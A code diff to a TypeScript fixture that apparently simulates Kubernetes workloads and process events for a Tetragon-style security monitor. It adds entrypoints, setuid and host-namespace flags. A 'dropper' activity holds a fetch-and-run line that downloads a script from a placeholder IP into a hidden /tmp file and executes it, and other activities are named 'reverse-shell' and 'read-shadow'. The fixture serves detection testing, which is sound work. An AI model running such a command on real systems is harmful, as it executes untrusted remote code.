@@ -23,7 +23,17 @@ export interface ToolRun {
   args: string;
   effects: Effect[];
   exit: ExitSpec;
+  /** The binary has the setuid bit and is owned by this uid (sudo, su: 0). */
+  setuid?: number;
 }
+
+/**
+ * How an activity's processes enter the container: `exec` through the runtime from outside
+ * (kubectl exec: not in the container's init tree), `probe` as a kubelet exec probe (also
+ * outside; Tetragon marks it maybe_exec_probe), `init` spawned by the container's own main
+ * process (in the init tree).
+ */
+export type ActivityOrigin = "exec" | "probe" | "init";
 
 export interface Activity {
   name: string;
@@ -34,6 +44,8 @@ export interface Activity {
   shellExit?: ExitSpec;
   /** Run the tools as this uid instead of the container's. */
   uid?: number;
+  /** Default "exec". */
+  origin?: ActivityOrigin;
 }
 
 export interface ContainerSpec {
@@ -42,6 +54,8 @@ export interface ContainerSpec {
   cwd: string;
   uid: number;
   activities: string[];
+  /** The container's main process (pid 1 inside it, the root of its init tree). */
+  entrypoint: { binary: string; args: string };
 }
 
 export interface WorkloadSpec {
@@ -51,6 +65,9 @@ export interface WorkloadSpec {
   replicas: number;
   labels: Record<string, string>;
   privileged?: boolean;
+  /** Shares the node's network / pid namespace (Tetragon reports them as is_host). */
+  hostNetwork?: boolean;
+  hostPID?: boolean;
   containers: ContainerSpec[];
 }
 
@@ -59,6 +76,7 @@ const ok: ExitSpec = { status: 0 };
 export const ACTIVITIES: Activity[] = [
   {
     name: "healthcheck",
+    origin: "probe",
     shell: "curl -sf http://127.0.0.1:8080/healthz",
     tools: [
       {
@@ -100,6 +118,7 @@ export const ACTIVITIES: Activity[] = [
   },
   {
     name: "crawl-job",
+    origin: "init",
     tools: [
       {
         binary: "/usr/local/bin/python3",
@@ -159,6 +178,7 @@ export const ACTIVITIES: Activity[] = [
       {
         binary: "/usr/bin/sudo",
         args: "-n id",
+        setuid: 0,
         effects: [{ kind: "setuid", uid: 0 }],
         exit: ok,
       },
@@ -167,11 +187,13 @@ export const ACTIVITIES: Activity[] = [
   },
   {
     name: "su-postgres",
+    origin: "probe",
     shell: "su postgres -c 'pg_isready -q'",
     tools: [
       {
         binary: "/bin/su",
         args: 'postgres -c "pg_isready -q"',
+        setuid: 0,
         effects: [{ kind: "setuid", uid: 999 }],
         exit: { status: 1 },
       },
@@ -206,6 +228,7 @@ export const ACTIVITIES: Activity[] = [
   },
   {
     name: "dropper",
+    origin: "init",
     shell: "wget -qO /tmp/.x http://198.51.100.7/x.sh && chmod +x /tmp/.x && /tmp/.x",
     tools: [
       {
@@ -228,6 +251,7 @@ export const ACTIVITIES: Activity[] = [
   },
   {
     name: "redis-ping",
+    origin: "probe",
     shell: "redis-cli -h redis ping",
     tools: [
       {
@@ -277,7 +301,14 @@ export const WORKLOADS: WorkloadSpec[] = [
     replicas: 2,
     labels: { app: "frontend", "app.kubernetes.io/name": "frontend", tier: "web" },
     containers: [
-      { name: "nginx", image: nginx, cwd: "/", uid: 0, activities: [...common, "dropper"] },
+      {
+        name: "nginx",
+        image: nginx,
+        cwd: "/",
+        uid: 0,
+        activities: [...common, "dropper"],
+        entrypoint: { binary: "/usr/sbin/nginx", args: '-g "daemon off;"' },
+      },
     ],
   },
   {
@@ -285,7 +316,10 @@ export const WORKLOADS: WorkloadSpec[] = [
     name: "netshoot",
     kind: "Deployment",
     replicas: 1,
+    // A debug pod with the node's network and pid namespaces: the kind a badge should flag.
     privileged: true,
+    hostNetwork: true,
+    hostPID: true,
     labels: { app: "netshoot", tier: "debug" },
     containers: [
       {
@@ -294,6 +328,7 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/root",
         uid: 0,
         activities: ["reverse-shell", "strace-attach", "interactive-bash", "read-shadow"],
+        entrypoint: { binary: "/bin/sleep", args: "infinity" },
       },
     ],
   },
@@ -310,6 +345,7 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/",
         uid: 65532,
         activities: ["healthcheck"],
+        entrypoint: { binary: "/coredns", args: "-conf /etc/coredns/Corefile" },
       },
     ],
   },
@@ -318,6 +354,9 @@ export const WORKLOADS: WorkloadSpec[] = [
     name: "kube-proxy",
     kind: "DaemonSet",
     replicas: 1,
+    // As kube-proxy really runs: privileged, in the node's network namespace.
+    privileged: true,
+    hostNetwork: true,
     labels: { "k8s-app": "kube-proxy", tier: "node" },
     containers: [
       {
@@ -326,6 +365,10 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/",
         uid: 0,
         activities: ["list-config"],
+        entrypoint: {
+          binary: "/usr/local/bin/kube-proxy",
+          args: "--config=/var/lib/kube-proxy/config.conf",
+        },
       },
     ],
   },
@@ -342,6 +385,10 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/usr/share/elasticsearch/",
         uid: 1000,
         activities: ["healthcheck", "read-shadow", "sudo-id", "interactive-bash"],
+        entrypoint: {
+          binary: "/usr/share/elasticsearch/jdk/bin/java",
+          args: "-Xms1g -Xmx1g -XX:+UseG1GC -Des.path.home=/usr/share/elasticsearch org.elasticsearch.bootstrap.Elasticsearch",
+        },
       },
     ],
   },
@@ -358,6 +405,7 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/app",
         uid: 1000,
         activities: ["crawl-job", "psql-missing", "sleeper"],
+        entrypoint: { binary: "/usr/local/bin/python3", args: "/app/scheduler.py --every 300s" },
       },
     ],
   },
@@ -379,6 +427,10 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/srv/app",
         uid: 1000,
         activities: ["psql-query", "redis-ping", "healthcheck", "sudo-id"],
+        entrypoint: {
+          binary: "/srv/app/payments-api",
+          args: "--listen :8080 --db postgres.payments.svc:5432",
+        },
       },
     ],
   },
@@ -400,6 +452,10 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/var/lib/postgresql/data",
         uid: 0,
         activities: ["su-postgres", "psql-query", "read-shadow"],
+        entrypoint: {
+          binary: "/usr/lib/postgresql/16/bin/postgres",
+          args: "-D /var/lib/postgresql/data",
+        },
       },
     ],
   },
@@ -416,6 +472,7 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/data",
         uid: 999,
         activities: ["redis-ping"],
+        entrypoint: { binary: "/usr/local/bin/redis-server", args: "*:6379" },
       },
     ],
   },
@@ -432,6 +489,10 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/",
         uid: 65534,
         activities: ["healthcheck", "list-config"],
+        entrypoint: {
+          binary: "/bin/node_exporter",
+          args: "--path.rootfs=/host/root --web.listen-address=:9100",
+        },
       },
     ],
   },
@@ -448,30 +509,16 @@ export const WORKLOADS: WorkloadSpec[] = [
         cwd: "/prometheus",
         uid: 65534,
         activities: ["healthcheck", "sleeper"],
+        entrypoint: {
+          binary: "/bin/prometheus",
+          args: "--config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/prometheus",
+        },
       },
     ],
   },
 ];
 
 export const DEFAULT_NODES = ["kind-control-plane", "kind-worker", "kind-worker2"];
-
-/** Tracing policies the simulated agent reports as loaded; names match the events. */
-export const POLICIES = [
-  {
-    name: "file-monitoring",
-    sensors: ["generic_kprobe"],
-    hooks: ["security_file_permission", "fd_install"],
-  },
-  { name: "tcp-connect", sensors: ["generic_kprobe"], hooks: ["tcp_connect"] },
-  { name: "privileges-raise", sensors: ["generic_kprobe"], hooks: ["__x64_sys_setuid"] },
-  { name: "file-open-lsm", sensors: ["generic_lsm"], hooks: ["file_open", "bprm_check_security"] },
-  {
-    name: "ptrace-tracepoint",
-    sensors: ["generic_tracepoint"],
-    hooks: ["syscalls/sys_enter_ptrace"],
-  },
-  { name: "bash-readline", sensors: ["generic_uprobe"], hooks: ["/bin/bash:readline"] },
-] as const;
 
 export const CONTAINER_CAPS = [
   "CAP_CHOWN",
